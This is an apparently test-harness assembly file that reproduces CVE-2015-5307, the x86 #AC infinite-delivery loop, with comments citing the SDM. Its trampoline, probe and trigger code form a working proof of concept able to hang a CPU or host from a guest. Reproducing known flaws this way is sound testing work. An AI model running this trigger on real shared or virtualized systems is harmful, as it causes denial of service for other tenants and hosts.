/* ac_loop32: an AP started straight into 32-bit protected mode makes #AC delivery raise #AC (CVE-2015-5307). */
#include "ac_loop.h"
#include "layout.h"

/*
 * Why 32-bit protected mode: in IA-32e mode every interrupt or exception delivery aligns
 * RSP to 16 bytes before it pushes (SDM Vol. 3A 6.14.2), so its pushes are never
 * misaligned. In legacy protected mode a delivery that stays at the same privilege level
 * pushes onto the interrupted stack as it is (6.12.1), and at CPL 3 with CR0.AM and
 * EFLAGS.AC set every data access, stack pushes included, is alignment-checked (6.15,
 * Interrupt 17; 2.5 for CR0.AM). The XSA-156 recipe: the #AC gate leads to a DPL-3 code
 * segment (CPL stays 3, so the handler's frame goes onto the user stack) and CPL-3 code
 * raises #AC with a misaligned ESP. The delivery's first push (EFLAGS, at ESP - 4) is then
 * misaligned and raises #AC, whose delivery does the same, forever: #AC is a benign
 * exception and a benign one during the delivery of another is delivered serially (6.15,
 * Tables 6-4 and 6-5), with no instruction boundary for an interrupt in between.
 *
 * The AP never enters long mode: the BSP starts it (INIT-SIPI-SIPI, 8.4.4.1) at a
 * trampoline of its own, which only enables protection, as a 32-bit kernel's would. It
 * runs with interrupts disabled throughout; ac_loop.c builds the GDT, IDT and TSS
 * beforehand and reads the results. Order:
 *   1. real mode -> 32-bit protected mode, paging off (alignment checking does not
 *      depend on paging);
 *   2. a probe at CPL 3: one misaligned load with an aligned ESP, #AC taken at CPL 0;
 *   3. the loop: #AC's gate now leads to CPL-3 code, and CPL-3 code faults with ESP
 *      misaligned.
 */

/* ---- 1. the start-up trampoline, copied to TRAMPOLINE_BASE (as lib/trampoline.S) ---- */
#define TRAMP(sym) (TRAMPOLINE_BASE + (sym) - ac32_trampoline)

	.section .rodata
	.code16
	.globl ac32_trampoline, ac32_trampoline_end
/* The SIPI starts the AP in real mode at CS:IP = (vector << 8):0 (SDM Vol. 3A 8.4.4.1). */
ac32_trampoline:
	cli
	cld
	xorw %ax, %ax
	movw %ax, %ds
	/* Only the first AP goes on (one set of stacks); any other halts here for good. */
	lock btsl $0, TRAMP(ac32_tramp_claimed)
	jnc 1f
2:	hlt
	jmp 2b
	/* GDTR with a 32-bit base (operand-size prefix), then CR0.PE and a far jump that
	 * loads CS from the new GDT (9.9.1). */
1:	lgdtl TRAMP(ac32_tramp_gdt_desc)
	movl %cr0, %eax
	orl $CR0_PE, %eax
	movl %eax, %cr0
	ljmpl $AC32_CS0, $ac32_pm_entry

	.balign 8
ac32_tramp_gdt_desc:
	.word AC32_GDT_ENTRIES * 8 - 1
	.long ac32_gdt
/* In the copy below 64 KiB, where real mode with DS = 0 reaches it. */
ac32_tramp_claimed:
	.long 0
ac32_trampoline_end:

	.text
	.code32
ac32_pm_entry:
	/* Protected mode, paging off: flat 32-bit data segments, a CPL-0 stack of our own. */
	movw $AC32_DS0, %ax
	movw %ax, %ds
	movw %ax, %es
	movw %ax, %ss
	movl $ac32_kstack_top, %esp
	/* The 32-bit IDT, and a 32-bit TSS for the stack of CPL 0 (SS0:ESP0, 8.2.1, 6.12.1). */
	lidt ac32_idt_desc
	movw $AC32_TSS, %ax
	ltr %ax
	/* CR0.AM: alignment checking at CPL 3 whenever EFLAGS.AC is set (2.5, 6.15). */
	movl %cr0, %eax
	orl $AC32_CR0_AM, %eax
	movl %eax, %cr0
	/* What the BSP checks first: the mode really is legacy protected mode, as read back. */
	movl %cr0, %eax
	movl %eax, ac32_cr0
	movl $AC32_MSR_EFER, %ecx
	rdmsr
	movl %eax, ac32_efer
	movl $1, ac32_in_legacy

	/*
	 * To CPL 3 by IRET (SDM Vol. 2A IRET, "return to outer privilege level": EIP, CS,
	 * EFLAGS, then ESP and SS are popped), with EFLAGS.AC set and IF clear, on an aligned
	 * user stack.
	 */
	pushl $AC32_DS3
	pushl $ac32_ustack_top
	pushl $(AC32_EFLAGS_AC | AC32_EFLAGS_FIXED)
	pushl $AC32_CS3
	pushl $ac32_probe
	iret

/* ---- 2. the probe, at CPL 3 ---- */
ac32_probe:
	/* IRET to an outer level nulled DS and ES, which held a DPL-0 segment (IRET). */
	movl $AC32_DS3, %eax
	movw %ax, %ds
	movw %ax, %es
	movl $(ac32_buf + 1), %ebx
	.globl ac32_probe_load
ac32_probe_load:
	/* A 4-byte load from an odd address: #AC(0), a fault at this EIP (6.15). */
	movl (%ebx), %eax
	/* Back to CPL 0, whether #AC came or not (QEMU's TCG raises none). */
	int $AC32_VEC_NEXT

/*
 * #AC's first handler: CPL 0 through a DPL-0 code segment, so the CPU switched to the
 * TSS's SS0:ESP0 and pushed SS, ESP, EFLAGS, CS, EIP and the error code (6.12.1, Figure
 * 6-4). Recorded for the BSP; the frame's EFLAGS.AC is cleared so the load runs again
 * without faulting.
 */
	.globl ac32_probe_handler
ac32_probe_handler:
	incl ac32_probe_count
	popl ac32_probe_error
	movl 0(%esp), %eax
	movl %eax, ac32_probe_eip
	movl 4(%esp), %eax
	movl %eax, ac32_probe_cs
	andl $~AC32_EFLAGS_AC, 8(%esp)
	iret

/* ---- 3. the loop ---- */
/*
 * INT AC32_VEC_NEXT from the probe, at CPL 0. #AC's gate now names the DPL-3 code
 * segment: a non-conforming segment with DPL = CPL = 3 is an interrupt to the same
 * privilege level, on the interrupted stack, at CPL 3 (6.12.1). Then back to CPL 3 with
 * EFLAGS.AC set and ESP = 2 (mod 4).
 */
	.globl ac32_next
ac32_next:
	movl ac32_loop_gate, %eax
	movl %eax, ac32_idt + 8 * AC_VECTOR
	movl ac32_loop_gate + 4, %eax
	movl %eax, ac32_idt + 8 * AC_VECTOR + 4
	movl $1, ac32_probe_done
	pushl $AC32_DS3
	pushl $(ac32_ustack_top - 2)
	pushl $(AC32_EFLAGS_AC | AC32_EFLAGS_FIXED)
	pushl $AC32_CS3
	pushl $ac32_trigger
	iret

ac32_trigger:
	movl $1, ac32_looping		/* an aligned store: no #AC */
	movl $(ac32_buf + 1), %ebx
	/*
	 * #AC at CPL 3. Its delivery pushes EFLAGS at ESP - 4, misaligned, at CPL 3: #AC
	 * again before the handler's first instruction, and so on (a fault restores ESP, so
	 * every attempt pushes at the same address).
	 */
	movl (%ebx), %eax
	/* Only without alignment checking: the load went through. */
	movl $1, ac32_no_fault
1:	jmp 1b

/* #AC's handler at CPL 3: reached only when a delivery completed, i.e. the loop broke. */
	.globl ac32_landing
ac32_landing:
	movl $1, ac32_handler_ran
1:	jmp 1b

/*
 * Every other vector up to AC32_VEC_NEXT: a stub of 16 bytes each (ac_loop.c puts stub n
 * at ac32_unexpected_stubs + 16 * n in the IDT) that records its vector and the top of
 * its frame for the BSP and halts at CPL 0.
 */
	.balign 16
	.globl ac32_unexpected_stubs
ac32_unexpected_stubs:
	.set vec, 0
	.rept AC32_IDT_ENTRIES
	.balign 16
	movl $(AC32_UNEXPECTED | vec), ac32_unexpected
	jmp ac32_unexpected_tail
	.set vec, vec + 1
	.endr

ac32_unexpected_tail:
	movl 0(%esp), %eax
	movl %eax, ac32_unexpected_frame
	movl 4(%esp), %eax
	movl %eax, ac32_unexpected_frame + 4
	movl 8(%esp), %eax
	movl %eax, ac32_unexpected_frame + 8
1:	cli
	hlt
	jmp 1b

	.code64

/* The two stacks of the 32-bit world: CPL 0's (the set-up's, then TSS ESP0) and CPL 3's. */
	.bss
	.balign 16
	.globl ac32_kstack_top
ac32_kstack:	.skip 4096
ac32_kstack_top:
ac32_ustack:	.skip 4096
ac32_ustack_top:
